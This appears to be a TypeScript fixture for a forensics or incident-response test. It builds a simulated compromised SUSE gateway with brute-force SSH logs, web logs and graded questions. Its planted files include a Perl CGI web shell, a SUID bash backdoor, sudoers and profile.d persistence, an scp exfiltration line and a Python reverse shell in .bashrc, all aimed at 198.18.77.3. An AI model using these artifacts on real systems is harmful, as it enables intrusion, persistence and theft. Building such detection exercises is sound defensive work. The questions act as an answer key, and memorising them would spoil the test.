/** SUSE, Apache with CGI in Perl: a weak password of ssh, then a script among the CGIs, a copied shell with its bit set. */
import {
  account,
  attacker,
  combined,
  entered,
  guessing,
  type Host,
  inTimeline,
  later,
  outbound,
  shell,
  stays,
  visitors,
} from './host.ts';

const THIEF = '203.0.113.201';
const USERS = ['admin', 'oracle', 'test', 'ftpuser', 'kasse'];
let cursor = 0;
const journal = (iso: string, message: string, identifier = 'sshd'): string =>
  `${JSON.stringify({
    __CURSOR: `s=1;i=${(cursor++).toString(16)}`,
    __REALTIME_TIMESTAMP: String(Date.parse(iso) * 1000),
    _HOSTNAME: 'pos-gw',
    SYSLOG_IDENTIFIER: identifier,
    _PID: String(3000 + cursor),
    PRIORITY: '6',
    MESSAGE: message,
  })}\n`;

const guesses = Array.from({ length: 64 }, (_, i) => {
  const user = USERS[i % USERS.length]!;
  return journal(
    later('2026-11-15T03:10:00Z', i * 4),
    `Failed password for ${user === 'kasse' ? '' : 'invalid user '}${user} from ${THIEF} port ${40000 + i} ssh2`,
  );
}).join('');

export const susePerl: Host = {
  name: 'SUSE with CGI in Perl',
  files: {
    'journal.json':
      journal('2026-11-15T02:00:00Z', 'Accepted publickey for backup from 10.8.0.4 port 50122 ssh2: ED25519 SHA256:x') +
      guesses +
      journal('2026-11-15T03:15:20Z', `Accepted keyboard-interactive/pam for kasse from ${THIEF} port 41222 ssh2`) +
      journal(
        '2026-11-15T03:15:21Z',
        'pam_unix(sshd:session): session opened for user kasse(uid=1004) by kasse(uid=0)',
      ) +
      journal(
        '2026-11-15T03:22:02Z',
        '  kasse : TTY=pts/0 ; PWD=/home/kasse ; USER=root ; COMMAND=/usr/bin/find . -exec /bin/sh ; -quit',
        'sudo',
      ) +
      journal('2026-11-15T03:25:40Z', 'group added to /etc/group: name=nscd2, GID=1009', 'groupadd'),
    'lastb.txt': `${Array.from(
      { length: 64 },
      (_, i) =>
        `${USERS[(63 - i) % 5]!.padEnd(8)} ssh:notty    ${THIEF}    Sun Nov 15 03:1${Math.floor(((63 - i) * 4) / 60)} - 03:1${Math.floor(((63 - i) * 4) / 60)}  (00:00)`,
    ).join('\n')}\n\nbtmp begins Sun Nov 15 03:10:00 2026\n`,
    'srv/www/cgi-bin/.stat.pl':
      '#!/usr/bin/perl -w\nuse strict; use CGI;\nmy $q = CGI->new; print $q->header("text/plain");\nmy $do = $q->param("w") or exit;\nopen(my $p, "-|", "$do 2>&1"); print while <$p>;\n',
    'srv/www/cgi-bin/terminal.pl':
      '#!/usr/bin/perl -T\nuse strict; use CGI;\nmy $q = CGI->new; my $id = $q->param("terminal");\n$id =~ /^(\\d{8})$/ or die;\nopen(my $p, "-|", "/usr/bin/termstat", $1); print $q->header, <$p>;\n',
    'var/log/apache2/access_log':
      visitors('2026-11-15T02:30:00Z', ['/cgi-bin/terminal.pl?terminal=12345678', '/', '/style.css'], 100) +
      Array.from({ length: 6 }, (_, i) =>
        combined(later('2026-11-15T03:41:09Z', i * 30), '203.0.113.202', 'GET /cgi-bin/.stat.pl?w=id', 200, 60 + i),
      ).join(''),
    'root/.zsh_history':
      ': 1794713000:0;cp /bin/bash /usr/lib64/.cache-d; chmod 6755 /usr/lib64/.cache-d\n: 1794713060:0;usermod -s /bin/bash -p "$6$ab$cd" games\n: 1794713120:4;scp -P 2222 /var/lib/pos/batch.csv drop@198.18.77.3:/in/\n',
    'suid.txt':
      '-rwsr-xr-x 1 root root   63960 Feb  7  2026 /usr/bin/passwd\n-rwsr-xr-x 1 root root  277952 Feb  7  2026 /usr/bin/sudo\n-rwsr-sr-x 1 root root 1396520 Nov 15 03:30 /usr/lib64/.cache-d\n',
    'etc/sudoers.d/10-monitoring': 'games ALL=(root) NOPASSWD: /bin/bash\n',
    'etc/sudoers.d/backup': 'backup ALL=(root) NOPASSWD: /usr/bin/rsync --server *\n',
    'root/.bashrc':
      'alias ll="ls -l"\nexport PATH=/usr/lib64/.d:$PATH\n(python3 -c "import socket,os,pty;s=socket.socket();s.connect((\'198.18.77.3\',9001));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\'sh\')" &) 2>/dev/null\n',
    'etc/profile.d/zz-lang.sh':
      'test -z "$LANG" && export LANG=C.UTF-8\nnohup /usr/lib64/.cache-d -p -c "/usr/lib64/.d/agent" >/dev/null 2>&1 &\n',
    'etc/profile.d/csh.sh': 'test -z "$EDITOR" && export EDITOR=vim\n',
    'etc/passwd':
      'root:x:0:0:root:/root:/bin/bash\ngames:x:12:100:Games account:/var/games:/bin/bash\nkasse:x:1004:100::/home/kasse:/bin/bash\nbackup:x:1005:100::/home/backup:/bin/bash\nwwwrun:x:30:8:WWW daemon apache:/var/lib/wwwrun:/sbin/nologin\n',
    'etc/shadow':
      'root:$6$x$y:19000:0:99999:7:::\ngames:$6$ab$cd:20772:0:99999:7:::\nkasse:$6$q$w:19500:0:99999:7:::\nbackup:!:19500:0:99999:7:::\nwwwrun:!:19000::::::\n',
  },
  questions: [
    attacker(THIEF, 2),
    attacker('203.0.113.202', 2),
    entered(/guessed password of kasse/, '2026-11-15T03:15:20Z'),
    ...guessing(THIEF, 64, USERS, ['kasse', '2026-11-15T03:15:20Z']),
    ...shell('cgi-bin/.stat.pl', { first: '2026-11-15T03:41:09Z' }),
    account('games'),
    stays('root/.zsh_history', 'chmod 6755'),
    stays('suid.txt', '.cache-d'),
    stays('etc/sudoers.d/10-monitoring', 'games'),
    stays('root/.bashrc', '198.18.77.3'),
    stays('etc/profile.d/zz-lang.sh', '.cache-d'),
    outbound('198.18.77.3'),
    inTimeline(/root|sudo/, '2026-11-15T03:22:02Z'),
  ],
};
